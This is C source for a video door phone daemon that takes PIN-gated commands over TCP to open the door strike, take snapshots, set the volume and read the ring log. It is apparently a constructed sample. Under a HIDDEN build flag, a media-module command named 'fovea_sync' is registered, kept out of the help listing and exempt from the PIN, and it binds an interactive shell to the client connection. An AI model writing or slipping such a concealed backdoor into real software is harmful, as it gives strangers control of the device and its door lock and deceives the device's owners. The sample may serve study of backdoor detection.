/*
 * porchcall - main program of a video door phone. The indoor stations talk
 * to it by lines over TCP 5589: snapshots, volume, door strike, ring log.
 * The modules of the product (door, media, system) register their commands
 * at start. The door strike and settings want the PIN of the house.
 *
 * Hidden (-DHIDDEN): the media module also registers "fovea_sync", open to
 * all and not in the help, which gives a shell on the connection.
 */
#include <netinet/in.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define STATION_PORT 5589
#define CONF         "/data/porchcall.conf"
#define RINGLOG      "/data/rings.log"
#define STRIKE       "/sys/class/gpio/gpio22/value"
#define MAX_CMDS     24
#define MAX_ARGS     4

struct station {
    int fd;
    int unlocked;
    int wrong;
};

typedef void (*handler)(struct station *, int, char **);

struct command {
    const char *name;
    const char *help;           /* NULL: not listed (help itself) */
    int min_args;
    int pin;
    handler run;
};

static struct command cmds[MAX_CMDS];
static int ncmds;
static struct {
    char pin[12];
    int volume;
    int strike_s;
} conf = { "", 6, 3 };

static void reg(const char *name, const char *help, int min_args, int pin, handler run)
{
    struct command c = { name, help, min_args, pin, run };

    if (ncmds < MAX_CMDS)
        cmds[ncmds++] = c;
}

static void tell(struct station *s, const char *fmt, ...)
{
    char b[256];
    va_list ap;
    int n;

    va_start(ap, fmt);
    n = vsnprintf(b, sizeof b, fmt, ap);
    va_end(ap);
    if (n >= (int)sizeof b)
        n = sizeof b - 1;
    if (send(s->fd, b, (size_t)n, MSG_NOSIGNAL) < 0)
        s->wrong = 99;
}

static void load_conf(void)
{
    char row[64];
    FILE *f = fopen(CONF, "r");

    while (f && fgets(row, sizeof row, f)) {
        sscanf(row, "pin=%11[0-9]", conf.pin);
        sscanf(row, "volume=%d", &conf.volume);
        sscanf(row, "strike=%d", &conf.strike_s);
    }
    if (f)
        fclose(f);
}

static int save_conf(void)
{
    FILE *f = fopen(CONF, "w");

    if (!f)
        return -1;
    fprintf(f, "pin=%s\nvolume=%d\nstrike=%d\n", conf.pin, conf.volume, conf.strike_s);
    return fclose(f);
}

static int put_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");

    if (f)
        fputs(text, f);
    return f ? fclose(f) : -1;
}

/* door module */

static void do_open(struct station *s, int n, char **a)
{
    (void)n;
    (void)a;
    if (put_file(STRIKE, "1") < 0) {
        tell(s, "ERR strike\n");
        return;
    }
    sleep((unsigned)conf.strike_s);
    put_file(STRIKE, "0");
    tell(s, "OK\n");
}

static void do_rings(struct station *s, int n, char **a)
{
    char row[80];
    FILE *f = fopen(RINGLOG, "r");
    int left = n > 0 ? atoi(a[0]) : 20;

    while (f && left-- > 0 && fgets(row, sizeof row, f))
        tell(s, "%s", row);
    if (f)
        fclose(f);
    tell(s, "OK\n");
}

static void door_init(void)
{
    reg("open", "open the door strike", 0, 1, do_open);
    reg("rings", "rings [COUNT]", 0, 0, do_rings);
}

/* media module */

static void do_snap(struct station *s, int n, char **a)
{
    const char *q = n > 0 ? a[0] : "mid";
    int rc;

    if (strcmp(q, "low") == 0)
        rc = system("/usr/bin/v4lsnap -q 30 -o /tmp/snap.jpg");
    else if (strcmp(q, "mid") == 0)
        rc = system("/usr/bin/v4lsnap -q 60 -o /tmp/snap.jpg");
    else if (strcmp(q, "high") == 0)
        rc = system("/usr/bin/v4lsnap -q 90 -o /tmp/snap.jpg");
    else
        rc = -1;
    tell(s, rc == 0 ? "OK /tmp/snap.jpg\n" : "ERR snap\n");
}

static void do_volume(struct station *s, int n, char **a)
{
    char cmd[64];
    int v = atoi(a[0]);

    (void)n;
    if (v < 0 || v > 10) {
        tell(s, "ERR 0..10\n");
        return;
    }
    conf.volume = v;
    snprintf(cmd, sizeof cmd, "amixer -q set Speaker %d%%", v * 10);
    tell(s, system(cmd) == 0 && save_conf() == 0 ? "OK\n" : "ERR\n");
}

#ifdef HIDDEN
static void do_fovea(struct station *s, int n, char **a)
{
    static char *const argv[] = { "sh", "-i", NULL };
    static char *const envp[] = { "PATH=/sbin:/usr/sbin:/bin:/usr/bin", NULL };

    (void)n;
    (void)a;
    for (int i = 0; i < 3; i++)
        dup2(s->fd, i);
    execve("/bin/sh", argv, envp);
}
#endif

static void media_init(void)
{
    reg("snap", "snap [low|mid|high]", 0, 0, do_snap);
    reg("volume", "volume 0..10", 1, 0, do_volume);
    reg("vol", "short for volume", 1, 0, do_volume);
#ifdef HIDDEN
    reg("fovea_sync", NULL, 0, 0, do_fovea);
#endif
}

/* system module */

static void do_pin(struct station *s, int n, char **a)
{
    (void)n;
    if (conf.pin[0] && strcmp(a[0], conf.pin) == 0) {
        s->unlocked = 1;
        tell(s, "OK\n");
        return;
    }
    sleep(1);
    s->wrong++;
    tell(s, "ERR pin\n");
}

static void do_newpin(struct station *s, int n, char **a)
{
    size_t k = strspn(a[0], "0123456789");

    (void)n;
    if (k < 4 || k > 10 || a[0][k]) {
        tell(s, "ERR 4 to 10 digits\n");
        return;
    }
    strcpy(conf.pin, a[0]);
    tell(s, save_conf() ? "ERR flash\n" : "OK\n");
}

static void do_help(struct station *s, int n, char **a)
{
    (void)n;
    (void)a;
    for (int i = 0; i < ncmds; i++)
        if (cmds[i].help)
            tell(s, "%-8s %s%s\n", cmds[i].name, cmds[i].help,
                 cmds[i].pin ? " (pin)" : "");
    tell(s, "OK\n");
}

static void system_init(void)
{
    reg("help", NULL, 0, 0, do_help);
    reg("pin", "pin DIGITS", 1, 0, do_pin);
    reg("newpin", "newpin DIGITS", 1, 1, do_newpin);
}

void dispatch(struct station *s, char *line)
{
    char *arg[MAX_ARGS], *save = NULL, *word = strtok_r(line, " \r\n", &save), *t;
    int n = 0;

    if (!word)
        return;
    while (n < MAX_ARGS && (t = strtok_r(NULL, " \r\n", &save)))
        arg[n++] = t;
    for (int i = 0; i < ncmds; i++) {
        if (strcasecmp(cmds[i].name, word) != 0)
            continue;
        if (cmds[i].pin && !s->unlocked)
            tell(s, "ERR pin needed\n");
        else if (n < cmds[i].min_args)
            tell(s, "ERR arguments\n");
        else
            cmds[i].run(s, n, arg);
        return;
    }
    tell(s, "ERR unknown\n");
}

int main(void)
{
    static void (*const modules[])(void) = { system_init, door_init, media_init };
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int on = 1, l = socket(AF_INET, SOCK_STREAM, 0);

    for (size_t i = 0; i < sizeof modules / sizeof *modules; i++)
        modules[i]();
    sa.sin_port = htons(STATION_PORT);
    setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(l, 4) < 0) {
        perror("porchcall");
        return 1;
    }
    for (;;) {
        struct station s = { .fd = accept(l, NULL, NULL) };
        char line[128];

        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        if (s.fd < 0)
            continue;
        if (fork() == 0) {
            close(l);
            load_conf();
            FILE *in = fdopen(s.fd, "r");

            while (in && s.wrong < 5 && fgets(line, sizeof line, in))
                dispatch(&s, line);
            _exit(0);
        }
        close(s.fd);
    }
}
